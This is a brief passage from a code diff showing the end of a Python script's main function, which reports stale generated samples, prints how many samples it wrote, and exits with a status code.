+        print("stale samples (run python3 samples/generate.py):", ", ".join(stale))
+        return 1
+    if not check:
+        print("wrote %d samples" % len(SAMPLES))
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
